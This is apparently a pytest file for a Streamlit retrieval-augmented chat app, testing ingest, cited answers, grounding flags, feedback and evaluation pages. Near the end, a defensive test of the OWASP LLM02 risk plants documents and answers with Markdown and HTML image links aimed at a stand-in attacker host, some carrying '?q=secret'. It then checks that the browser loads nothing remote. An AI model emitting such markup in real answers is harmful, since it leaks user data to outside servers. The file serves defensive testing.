"""The Streamlit app: driven by ``streamlit.testing.v1.AppTest``, and in a real headless Chromium.

Retrieval, the index, the guard and the feedback store are real (the packaged embedder, FAISS,
SQLite). The generator is a scripted test double, named as such: it answers with the sentence
of source [1] that shares most words with the question, cited ``[1]``, and streams it word by
word. The real generators are exercised in tests/test_generation.py; here what is tested is the
app: upload and ingest with progress, two-turn chat with streaming, citations that open the
passage with its supporting span highlighted, flagged sentences, abstentions, feedback.

The browser test needs Debian's ``chromium`` (``apt-get install -y chromium``) and the
``playwright`` package; Playwright drives that binary through ``executable_path`` and never
downloads a browser. It is skipped, with the reason, when either is missing.
"""

from __future__ import annotations

import html
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import chromium_path

pytest.importorskip("streamlit", reason="the app needs the ui extra: pip install -e '.[ui]'")

from streamlit.testing.v1 import AppTest

from rag_app.feedback import FeedbackStore
from rag_app.rag import RAG

ROOT = Path(__file__).resolve().parents[1]
MEMO_PDF = ROOT.parent / "shared" / "data" / "formats" / "fake-memo.pdf"
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]

# The app as tests run it: streamlit_app.main with the scripted generator in place of the configured one.
SCRIPTED_APP = '''
import re
import sys
from collections.abc import Iterator, Sequence

sys.path.insert(0, {root!r})

from rag_app.generation.base import Completion, Message
from streamlit_app import main


class ScriptedGenerator:
    """Test double: the sentence of source [1] sharing most words with the question, cited [1].

    A question with the word "invent" also gets an invented, unsupported sentence.
    """

    model_id = "scripted"
    adapter_id = None

    def __init__(self, settings: object) -> None:
        pass

    def _text(self, messages: Sequence[Message]) -> str:
        user = messages[-1]["content"]
        question = user.rsplit("Question:", 1)[-1]
        first = re.search(r"\\[1\\] (.*?)(?:\\n\\n\\[\\d+\\] |\\n\\nQuestion:)", user, re.S)
        if first is None:
            return "I could not find the answer in the documents."
        text = first.group(1).strip().split("\\n")[-1]  # the heading line dropped
        sentences = re.split(r"(?<=[.!?])\\s+", text)
        words = set(re.findall(r"\\w+", question.lower()))
        best = max(sentences, key=lambda s: len(words & set(re.findall(r"\\w+", s.lower()))))
        invented = " It was painted purple by Napoleon in 1712." if "invent" in words else ""
        return best.rstrip(".") + " [1]." + invented

    def generate(self, messages: Sequence[Message], **_: object) -> Completion:
        text = self._text(messages)
        return Completion(text=text, model=self.model_id, completion_tokens=len(text.split()))

    def stream(self, messages: Sequence[Message], **_: object) -> Iterator[str]:
        for word in self._text(messages).split(" "):
            yield word + " "

    def count_tokens(self, text: str) -> int:
        return len(text.split())


main(generator_factory=ScriptedGenerator)
'''

DOCS = {
    "eiffel.md": "# The Eiffel Tower\n\nThe Eiffel Tower in Paris was completed in 1889 for the World's "
    "Fair. The tower is 330 metres tall and was designed by the company of Gustave Eiffel.\n",
    "tides.md": "# Tides\n\nThe gravity of the moon pulls the oceans and causes the tides. "
    "Spring tides happen at full moon and at new moon.\n",
    "volcano.txt": "Lava from a volcano cools into basalt. Magma chambers feed volcanic eruptions.\n",
}


@pytest.fixture()
def app_env(tmp_path: Path, settings, embedder, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """A working folder, the app's settings as environment variables, and the scripted app file."""
    # ``embedder`` makes sure the ONNX export is in the cache before the app loads it.
    paths = {
        "index": tmp_path / "index",
        "data": tmp_path / "data",
        "reports": tmp_path / "reports",
        "docs": tmp_path / "docs",
        "app": tmp_path / "scripted_app.py",
    }
    paths["docs"].mkdir()
    for name, text in DOCS.items():
        (paths["docs"] / name).write_text(text, encoding="utf-8")
    paths["app"].write_text(SCRIPTED_APP.format(root=str(ROOT)), encoding="utf-8")
    monkeypatch.chdir(tmp_path)  # no ./rag-app.toml of the developer's is read
    monkeypatch.delenv("RAG_APP_CONFIG", raising=False)
    for key, value in {
        "RAG_APP_CACHE_DIR": settings.cache_dir,
        "RAG_APP_DATA_DIR": paths["data"],
        "RAG_APP_UI__INDEX": paths["index"],
        "RAG_APP_UI__REPORTS_DIR": paths["reports"],
    }.items():
        monkeypatch.setenv(key, str(value))
    return paths


def _texts(at: AppTest) -> str:
    """Everything the app shows as text (markdown, captions, alerts), joined, character references
    decoded (the app writes document and model text as references: see ``rag_app.ui.text.inert``)."""
    parts = [m.value for m in at.markdown] + [c.value for c in at.caption]
    parts += [e.value for alerts in (at.info, at.success, at.warning, at.error) for e in alerts]
    return html.unescape("\n".join(str(p) for p in parts))


def _answers(at: AppTest) -> list[str]:
    shown = []
    for msg in at.chat_message:
        if msg.name == "assistant":
            parts = (
                [m.value for m in msg.markdown]
                + [c.value for c in msg.caption]
                + [w.value for w in msg.warning]
            )
            shown.append(html.unescape("\n".join(str(p) for p in parts)))
    return shown


def test_upload_ingest_two_turn_chat_citations_feedback(app_env: dict[str, Path]) -> None:
    at = AppTest.from_file(str(app_env["app"]), default_timeout=120)
    at.run()
    assert not at.exception, at.exception
    assert "There is no index" in _texts(at)

    # Upload two files, then ingest a folder: a progress bar, a report, the document list.
    at.radio(key="page").set_value("Documents").run()
    uploads = [app_env["docs"] / "eiffel.md", app_env["docs"] / "tides.md"]
    if MEMO_PDF.is_file():  # a real one-page PDF from the shared samples: its page number is shown
        uploads.append(MEMO_PDF)
    for path in uploads:
        at.file_uploader(key="uploads").upload(path.name, path.read_bytes())
    at.run()  # a browser reruns the script when files are dropped
    at.button(key="ingest-uploads").click().run()
    assert not at.exception, at.exception
    assert any(f"{len(uploads)} ingested" in s.value for s in at.success), _texts(at)
    assert (app_env["data"] / "uploads" / "index" / "eiffel.md").is_file()
    assert at.get("progress"), "no progress bar during ingest"
    at.text_input(key="folder").set_value(str(app_env["docs"]))
    at.button(key="ingest-folder").click().run()
    assert not at.exception, at.exception
    assert any("3 ingested" in s.value for s in at.success), _texts(at)
    sources = at.selectbox(key="selected-document").options
    assert len(sources) == len(uploads) + 3 and any(s.endswith("volcano.txt") for s in sources)
    assert [m.value for m in at.metric] == [str(len(sources))] * 2  # documents, chunks (one each)

    # Turn one: a streamed, cited, grounded answer.
    at.radio(key="page").set_value("Chat").run()
    at.chat_input[0].set_value("When was the Eiffel Tower completed?").run()
    assert not at.exception, at.exception
    first = _answers(at)
    assert len(first) == 1 and "completed in 1889 for the World's Fair [1]." in first[0], first
    assert re.search(r"green-badge\[.*grounding 0\.\d\d\]", first[0]), first  # the grounding badge
    chips = at.button_group(key="cite-0")
    assert chips.label == "Sources" and chips.options[0].startswith("[1] eiffel.md")

    # The chip opens the cited passage with the supporting sentence highlighted.
    chips.set_value(1).run()
    passage = html.unescape(
        "\n".join(m.value for m in at.markdown if m.value.startswith('<div class="rag-passage'))
    )
    assert any("1889" in marked for marked in re.findall(r"<mark>(.*?)</mark>", passage, re.S)), passage
    assert any("characters" in m.value and "eiffel.md" in html.unescape(m.value) for m in at.markdown)

    # Turn two: a follow-up that only makes sense with the first turn ("it").
    at.chat_input[0].set_value("How tall is it?").run()
    assert not at.exception, at.exception
    second = _answers(at)
    assert len(second) == 2 and "The tower is 330 metres tall" in second[1] and "Eiffel [1]." in second[1], (
        second
    )

    # Thumbs down with a correction, stored for the retraining loop.
    at.feedback[1].set_value(0).run()
    at.text_area(key="correction-1").set_value("It is 330 metres tall, antennas included.")
    at.button(key="save-correction-1").click().run()
    store = FeedbackStore(app_env["data"])
    rows = store.rows()
    assert len(rows) == 1 and rows[0].rating == -1 and rows[0].question == "How tall is it?"
    assert rows[0].correction == "It is 330 metres tall, antennas included."
    assert rows[0].answer["citations"][0]["source"].endswith("eiffel.md")

    # An answer with an invented sentence: the real guard flags it, and the app marks it.
    at.chat_input[0].set_value("When was the Eiffel Tower completed? Also invent a fact.").run()
    assert not at.exception, at.exception
    invented = _answers(at)[2]
    assert "⚠️ Not found in the sources: “It was painted purple by Napoleon in 1712.”" in invented, invented
    # withheld (the default): the abstention is the answer, the invented sentence only named as the reason
    assert "**I could not find the answer in the documents.**" in invented, invented
    assert "is not supported by the documents, so it is not shown" in invented, invented

    # A question the documents do not answer: an abstention, said clearly, with the closest passages.
    at.chat_input[0].set_value("How do I replace a bicycle chain?").run()
    unanswerable = _answers(at)[3]
    assert (
        "**I could not find the answer in the documents.** None of the documents is close enough"
        in unanswerable
    ), unanswerable
    assert at.button_group(key="cite-3").label == "Closest passages"

    # A PDF's citation names its page.
    if MEMO_PDF.is_file():
        at.chat_input[0].set_value("How many laptops were delivered?").run()
        assert "200 laptops" in _answers(at)[4]
        chips = at.button_group(key="cite-4")
        assert chips.options[0] == "[1] fake-memo.pdf · p. 1", chips.options
        chips.set_value(1).run()
        assert any("fake-memo.pdf** · page 1 · characters" in html.unescape(m.value) for m in at.markdown)

    # Delete a document from the list.
    at.radio(key="page").set_value("Documents").run()
    tides = next(s for s in at.selectbox(key="selected-document").options if s.endswith("docs/tides.md"))
    at.selectbox(key="selected-document").set_value(tides)
    at.button(key="delete-document").click().run()
    assert not at.exception, at.exception
    assert tides not in at.selectbox(key="selected-document").options


def test_flagged_sentences_and_evaluation_page(app_env: dict[str, Path]) -> None:
    from eval.streamlit_page import report_numbers
    from rag_app.answer import Answer, Grounding, SentenceSupport
    from rag_app.ui.text import highlight, marked_text

    text = "Paris is in France [1]. The tower is made of cheese."
    answer = Answer(
        "q",
        text,
        [],
        Grounding(0.3, [SentenceSupport(text[24:], 24, len(text), 0.1, flagged=True, reason="unsupported")]),
    )
    marked = html.unescape(marked_text(answer))
    assert marked.startswith("Paris is in France [1]. ")
    assert (
        '<span class="rag-flagged" title="unsupported (support 0.10)">⚠️ The tower is made of cheese.</span>'
        in marked
    )
    highlighted = highlight("A <b> c. Then d.\n\nMore.", [(9, 22)])
    assert highlighted == "A &#60;b&#62; c&#46; <mark>Then d&#46;</mark>&#10;&#10;<mark>More</mark>&#46;"

    at = AppTest.from_file(str(app_env["app"]), default_timeout=60)
    at.run()
    at.radio(key="page").set_value("Evaluation").run()
    assert "No evaluation reports yet" in _texts(at) and "ui.reports_dir" in _texts(at)
    assert str(app_env["reports"].resolve()) in _texts(at)  # where it looked
    app_env["reports"].mkdir()
    report = {
        "retrieval": {"recall@5": 0.9, "mrr": 0.75},
        "answers": {"faithfulness": 0.8},
        "name": "nightly",
    }
    (app_env["reports"] / "nightly.json").write_text(json.dumps(report), encoding="utf-8")
    at.run()
    assert not at.exception, at.exception
    assert at.selectbox(key="report").options == ["nightly.json"]
    assert at.get("arrow_vega_lite_chart") or at.get("vega_lite_chart"), "no chart for the report's metrics"
    assert report_numbers(report) == {
        "retrieval.recall@5": 0.9,
        "retrieval.mrr": 0.75,
        "answers.faithfulness": 0.8,
    }

    # stored runs (the eval run store under DATA_DIR) are listed with their headline metrics
    from eval.runs import RunStore
    from eval.stats import summarize_all
    from eval.types import RunRecord, SampleResult

    result = SampleResult("q1", 0, "Who?", "Eiffel.", metrics={"answer.f1": 0.5, "guard.grounding": 0.9})
    with RunStore(app_env["data"] / "eval-runs.sqlite") as store:
        store.start("20260101-000000-abcdef", "mini", {})
        store.finish(RunRecord("20260101-000000-abcdef", "", "mini", {}, summarize_all([result]), [result]))
    at.run()
    assert not at.exception, at.exception
    table = at.dataframe[0].value
    assert list(table["run"]) == ["20260101-000000-abcdef"] and list(table["answer.f1"]) == [0.5]


def test_feedback_store_roundtrip(tmp_path: Path) -> None:
    from rag_app.answer import Answer
    from rag_app.errors import QueryError

    store = FeedbackStore(tmp_path)
    answer = Answer("Who?", "Eiffel [1].", [], None, model="m")
    first = store.add(answer, rating=1, index_dir="idx")
    second = store.add(answer, rating=-1, index_dir="idx", correction="  ")
    assert store.get(second).correction is None
    store.set_correction(second, "Gustave Eiffel's company.")
    store.set_rating(first, -1)
    assert store.counts() == {"up": 0, "down": 2, "corrections": 1}
    assert [r.id for r in store.rows(rating=-1)] == [first, second]
    assert store.export_jsonl(tmp_path / "out.jsonl") == 2
    assert (
        json.loads((tmp_path / "out.jsonl").read_text().splitlines()[1])["correction"]
        == "Gustave Eiffel's company."
    )
    with pytest.raises(QueryError, match="rating"):
        store.add(answer, rating=0, index_dir="idx")
    with pytest.raises(QueryError, match="no feedback"):
        store.set_correction(99, "x")
    assert FeedbackStore(tmp_path).counts()["down"] == 2  # reopened: migrations are not applied twice


def test_ui_command_runs_streamlit_headless(tmp_path: Path) -> None:
    out = subprocess.run(
        [sys.executable, "-m", "rag_app.cli", "ui", "--print", "--port", "8765"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env={k: v for k, v in os.environ.items() if k != "RAG_APP_CONFIG"},
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    assert "-m streamlit run" in out.stdout and "streamlit_app.py" in out.stdout
    for flag in ("--server.headless true", "--browser.gatherUsageStats false", "--server.port 8765"):
        assert flag in out.stdout
    config = (ROOT / ".streamlit" / "config.toml").read_text()
    assert "gatherUsageStats = false" in config and "headless = true" in config

    # And for real: the command starts Streamlit, which answers its health check on 127.0.0.1.
    port = _free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "rag_app.cli", "ui", "--port", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd=tmp_path,
        env={k: v for k, v in os.environ.items() if k != "RAG_APP_CONFIG"},
    )
    try:
        _wait_for_http(port, server)
    finally:
        server.terminate()
        server.wait(timeout=30)


# -- a real browser -------------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _wait_for_http(port: int, server: subprocess.Popen[bytes], timeout: float = 60.0) -> None:
    import urllib.request

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if server.poll() is not None:
            raise RuntimeError(f"streamlit exited with {server.returncode}")
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise TimeoutError(f"streamlit did not answer on 127.0.0.1:{port} within {timeout:.0f} s")


@pytest.mark.slow
def test_real_chromium_asks_clicks_a_citation_and_screenshots(
    app_env: dict[str, Path], settings, embedder, tmp_path: Path
) -> None:
    chromium = chromium_path()
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (dev extra)")
    from PIL import Image, ImageStat

    RAG(app_env["index"], settings, embedder=embedder).ingest([app_env["docs"]])
    port = _free_port()
    log = (tmp_path / "streamlit.log").open("wb")
    server = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(app_env["app"]), "--server.address", "127.0.0.1",
         "--server.port", str(port), "--server.headless", "true", "--browser.gatherUsageStats", "false",
         "--client.toolbarMode", "minimal"],
        stdout=log,
        stderr=subprocess.STDOUT,
        env=dict(os.environ),
        cwd=tmp_path,
    )  # fmt: skip
    shot = tmp_path / "citation.png"
    try:
        _wait_for_http(port, server)
        with sync_api.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_FLAGS)
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(f"http://127.0.0.1:{port}/", wait_until="domcontentloaded")
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=60_000)
            box.fill("When was the Eiffel Tower completed?")
            box.press("Enter")
            chip = page.get_by_text("[1] eiffel.md", exact=True)
            chip.wait_for(timeout=60_000)
            reply = page.get_by_test_id("stChatMessage").last.inner_text()
            assert "completed in 1889 for the World's Fair [1]." in reply and "grounding 0." in reply, reply
            chip.click()
            mark = page.locator(".rag-passage mark").filter(has_text="1889")
            mark.wait_for(timeout=30_000)
            assert "completed in 1889" in mark.inner_text()
            page.wait_for_timeout(500)  # let the layout settle before the picture
            page.screenshot(path=str(shot), full_page=True)
            # A second turn with an invented sentence: the guard's flag is shown in the page.
            box.fill("When was the Eiffel Tower completed? Also invent a fact.")
            box.press("Enter")
            flag = page.get_by_text("Not found in the sources:", exact=False)
            flag.first.wait_for(timeout=60_000)
            page.wait_for_timeout(500)
            page.screenshot(path=str(tmp_path / "flagged.png"), full_page=True)
            browser.close()
    finally:
        server.terminate()
        server.wait(timeout=30)
        log.close()
    image = Image.open(shot).convert("L")
    assert image.size[0] >= 1000 and image.size[1] >= 600
    spread = ImageStat.Stat(image).stddev[0]
    colours = len(image.getcolors(maxcolors=1 << 16) or [])
    assert spread > 10 and colours > 20, f"screenshot looks blank: stddev {spread:.1f}, {colours} grey levels"
    keep = os.environ.get("RAG_APP_SCREENSHOT_DIR")
    if keep:
        Path(keep).mkdir(parents=True, exist_ok=True)
        shutil.copy(shot, Path(keep) / "streamlit-citation.png")
        shutil.copy(tmp_path / "flagged.png", Path(keep) / "streamlit-flagged.png")


# What a planted document carries (a .txt file: the Markdown loader already turns images into their
# alt text, plain text is stored as it is): every way Markdown or HTML could make the browser fetch a URL
# (an image at once; a link, a raw tag, an autolink, a reference image), each aimed at a stand-in
# attacker on another 127.0.0.1 port. The last line is the sentence the scripted generator answers
# with, so the answer carries a planted image too (and streams it).
PLANTED = (
    "# Harbour log\n\n"
    "Night notes: ![chart](http://127.0.0.1:{port}/passage.png?q=secret) and "
    "[the report](http://127.0.0.1:{port}/link) "
    '<img src="http://127.0.0.1:{port}/raw.png"> http://127.0.0.1:{port}/auto ![ref][pic] :red[alert]\n\n'
    "[pic]: http://127.0.0.1:{port}/reference.png\n\n"
    "The harbour master records the tide at dawn "
    "![beacon](http://127.0.0.1:{port}/answer.png?q=secret) every day.\n"
)


def test_inert_text_shows_markup_as_text() -> None:
    from rag_app.answer import Answer, Grounding, SentenceSupport
    from rag_app.ui.text import code, inert, label_text, marked_text

    planted = "![x](http://evil/?q=1) [a](http://e) <img src=x> :red[r] $x$ *b* `c`\n\nnext **line**"
    inert = inert(planted)
    assert html.unescape(inert) == planted  # shows exactly the text ...
    assert not set(inert) & set("[]()<>!:*`$\n")  # ... with no character left that could be markup
    assert re.fullmatch(r"[\w &#;]*", inert)
    assert label_text("a![x](http://e).md") == r"a\!\[x\]\(http\://e\).md"
    assert code("a`b``c") == "``` a`b``c ```"
    text = "Sea ![i](http://e/) level. Rises [1]."
    flagged = Answer("q", text, [], Grounding(0.3, [SentenceSupport(text[4:23], 4, 23, 0.1, flagged=True)]))
    marked = marked_text(flagged)
    assert "<img" not in marked and "](" not in marked and marked.count("<span") == 1
    assert html.unescape(re.sub(r"<[^>]+>", "", marked)) == "Sea ⚠️ ![i](http://e/) level. Rises [1]."


def _streamlit(app: Path, port: int, tmp_path: Path) -> subprocess.Popen[bytes]:
    log = (tmp_path / "streamlit.log").open("wb")
    return subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(app), "--server.address", "127.0.0.1",
         "--server.port", str(port), "--server.headless", "true", "--browser.gatherUsageStats", "false",
         "--client.toolbarMode", "minimal"],
        stdout=log, stderr=subprocess.STDOUT, env=dict(os.environ), cwd=tmp_path,
    )  # fmt: skip


@pytest.mark.slow
def test_real_chromium_planted_markup_loads_nothing_remote(
    app_env: dict[str, Path], settings, embedder, tmp_path: Path
) -> None:
    """OWASP LLM02: a planted passage and a planted answer make the browser fetch nothing but the app."""
    import http.server
    import threading
    from urllib.parse import urlsplit

    chromium = chromium_path()
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (dev extra)")

    hits: list[str] = []

    class Attacker(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a")

        def log_message(self, *args: object) -> None:
            pass

    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    docs = tmp_path / "planted"
    docs.mkdir()
    (docs / "harbour.txt").write_text(PLANTED.format(port=attacker.server_address[1]), encoding="utf-8")
    RAG(app_env["index"], settings, embedder=embedder).ingest([docs])

    port = _free_port()
    origin = f"127.0.0.1:{port}"
    requests: list[str] = []
    offsite: list[str] = []
    server = _streamlit(app_env["app"], port, tmp_path)
    try:
        _wait_for_http(port, server)
        with sync_api.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_FLAGS)
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.on("request", lambda r: requests.append(r.url))

            def guard(route: Any) -> None:  # nothing may leave this machine, even if the app regresses
                if urlsplit(route.request.url).hostname == "127.0.0.1":
                    route.continue_()
                else:
                    offsite.append(route.request.url)
                    route.abort()

            page.route("**/*", guard)
            page.goto(f"http://{origin}/", wait_until="domcontentloaded")
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=60_000)
            box.fill("When does the harbour master record the tide?")
            box.press("Enter")
            chip = page.get_by_text("[1] harbour.txt", exact=True)
            chip.wait_for(timeout=60_000)
            reply = page.get_by_test_id("stChatMessage").last.inner_text()
            # the planted image is in the answer, shown as text with its target visible
            assert (
                "at dawn ![beacon](http://127.0.0.1:" in reply and "answer.png?q=secret) every day" in reply
            ), reply
            chip.click()
            passage = page.locator(".rag-passage")
            passage.wait_for(timeout=30_000)
            shown = passage.inner_text()
            assert "![chart](http://127.0.0.1:" in shown and '<img src="http://127.0.0.1:' in shown, shown
            assert "[pic]: http://127.0.0.1:" in shown and ":red[alert]" in shown, shown
            assert page.locator(".rag-passage mark").count() >= 1  # the supporting span still highlighted
            page.wait_for_timeout(1500)  # time for anything that would load to load
            images = page.eval_on_selector_all("img", "els => els.map(e => e.src)")
            links = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
            page.screenshot(path=str(tmp_path / "planted.png"), full_page=True)
            browser.close()
    finally:
        server.terminate()
        server.wait(timeout=30)
        attacker.shutdown()
    assert hits == [], f"the stand-in attacker was reached: {hits}"
    assert offsite == [], offsite
    fetched = [u for u in requests if not u.startswith(("data:", "blob:"))]
    assert fetched and all(urlsplit(u).netloc == origin for u in fetched), sorted(set(fetched))
    assert all(u.startswith(("data:", f"http://{origin}/")) for u in images), images
    assert not [u for u in links if str(attacker.server_address[1]) in u], links


def test_evaluation_page_shows_the_loop_lineage_and_takes_labels(app_env: dict[str, Path]) -> None:
    from eval.labelling import LabellingQueue
    from eval.select import Candidate
    from finetune.registry import Registry

    registry = Registry(app_env["data"] / "adapters")
    adapter = app_env["data"] / "made-adapter"
    adapter.mkdir(parents=True)
    (adapter / "adapter_config.json").write_text("{}", encoding="utf-8")
    registry.register("loop-dpo-1", adapter, base_model="m", base_hash="h", method="dpo", data_hash="d")
    registry.promote("loop-dpo-1")
    evidence = [{"metric": "f1", "a": 0.21, "b": 0.34, "diff": 0.13, "ci_low": 0.05, "ci_high": 0.2}]
    registry.record_iteration(
        {"parent": None, "candidate": "loop-dpo-1", "promoted": True, "reason": "significant gain",
         "evidence": evidence, "settings": {"primary_metric": "f1"}}
    )  # fmt: skip
    with LabellingQueue(app_env["data"]) as queue:
        queue.add(
            [
                Candidate(
                    "x",
                    "Who built the tower?",
                    1.0,
                    [],
                    "The tower was built by Eiffel.",
                    "t.txt",
                    None,
                    "Bob",
                )
            ],
            index_dir="idx",
        )
    at = AppTest.from_file(str(app_env["app"]), default_timeout=60)
    at.run()
    at.radio(key="page").set_value("Evaluation").run()
    assert not at.exception, at.exception
    assert "Promoted adapter: **loop-dpo-1**" in _texts(at)
    (lineage,) = [d.value for d in at.dataframe if "candidate" in d.value.columns]
    assert list(lineage["candidate"]) == ["loop-dpo-1"] and list(lineage["f1"]) == ["0.210 -> 0.340"]
    assert list(lineage["decision"]) == ["promoted"]
    assert "Who built the tower?" in _texts(at)
    at.text_input(key="answer-1").set_value("Gustave Eiffel")
    at.button[0].click().run()
    assert not at.exception, at.exception
    with LabellingQueue(app_env["data"]) as queue:
        assert [r["label"] for r in queue.labelled()] == ["Gustave Eiffel"] and queue.pending() == []
